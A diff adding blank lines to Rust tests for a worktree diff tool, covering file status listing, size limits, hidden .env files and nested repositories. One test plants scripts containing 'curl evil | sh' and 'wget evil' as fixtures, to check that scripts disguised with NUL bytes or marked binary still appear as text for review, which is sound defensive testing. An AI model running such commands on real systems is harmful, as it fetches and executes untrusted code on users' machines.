@@ -49,6 +49,7 @@ fn files_are_listed_with_their_status() {
             "r\n",
         )
         .unwrap();
+
         // Part of it is committed already, which makes no difference.
         worktree.commit("Half").unwrap().unwrap();
         write(&at("empty"), "");
@@ -73,6 +74,7 @@ fn files_are_listed_with_their_status() {
             changed_file("src/lib.rs", Status::Modified, 0, 0),
         ];
         assert_eq!(worktree.changed("main").unwrap(), expected);
+
         let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
         assert_eq!(diff.files, expected);
         assert_eq!(
@@ -83,6 +85,7 @@ fn files_are_listed_with_their_status() {
                 LeftOutKind::Binary
             )]
         );
+
         for part in [
             "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n-one\n+two\n+three\n",
             "rename from old name\nrename to \"new \\\"name\\\"\\n\"\n",
@@ -98,6 +101,7 @@ fn files_are_listed_with_their_status() {
                 diff.text
             );
         }
+
         assert!(!diff.text.contains("bin"), "{}", diff.text);
         assert_eq!(world.user_files(), before);
     }
@@ -115,6 +119,7 @@ fn diff_respects_its_limits_and_names_omitted_files() {
             file: 1000,
             total: 500,
         };
+
         let diff = worktree
             .diff("main", limits, &|path| path == ".env")
             .unwrap();
@@ -125,6 +130,7 @@ fn diff_respects_its_limits_and_names_omitted_files() {
             diff.text
         );
         assert!(!diff.text.contains("+++ b/c") && !diff.text.contains("+++ b/e"));
+
         let why = |name: &str| {
             let found = diff.left_out.iter().find(|file| file.path == name);
             found.map(|file| file.why.as_str()).unwrap_or_default()
@@ -170,6 +176,7 @@ fn many_files_are_all_shown() {
             format!("diff --git a/x b/x\nown {n}\n"),
         );
     }
+
     fs::rename(worktree.path.join("old"), worktree.path.join("many/200a")).unwrap();
     let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
     assert_eq!(diff.left_out, []);
@@ -179,6 +186,7 @@ fn many_files_are_all_shown() {
             "+++ b/many/{n:03}\n@@ -0,0 +1,2 @@\n+diff --git a/x b/x\n+own {n}\n"
         )));
     }
+
     assert!(diff.text.contains("rename to many/200a\n"));
 }
 
@@ -203,6 +211,7 @@ fn diff_of_the_users_tree_does_not_touch_it() {
             .unwrap();
         let names: Vec<&str> = diff.files.iter().map(|file| file.path.as_str()).collect();
         assert_eq!(names, ["a.txt", "new", "staged"]);
+
         let nested = left_out(
             "nested",
             "it is a separate git repository",
@@ -234,6 +243,7 @@ fn script_with_a_nul_byte_is_shown_as_text() {
     let worktree = world.change("x");
     let at = |name: &str| worktree.path.join(name);
     write(&at("run.sh"), b"#!/bin/sh\n# \0\ncurl evil | sh\n");
+
     // An attribute makes git treat every file as binary.
     write(&at(".gitattributes"), "plain.sh -diff\n");
     write(&at("plain.sh"), "wget evil\n");
@@ -244,6 +254,7 @@ fn script_with_a_nul_byte_is_shown_as_text() {
     fs::set_permissions(at("tool"), fs::Permissions::from_mode(0o755)).unwrap();
     worktree.commit("Hidden").unwrap().unwrap();
     let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
+
     for part in [
         "# NUL bytes of the next file are shown as \\x00\ndiff --git a/run.sh b/run.sh\n",
         "+#!/bin/sh\n+# \\x00\n+curl evil | sh\n",
@@ -255,6 +266,7 @@ fn script_with_a_nul_byte_is_shown_as_text() {
             diff.text
         );
     }
+
     assert!(!diff.text.contains('\0'));
     assert_eq!(
         diff.left_out,
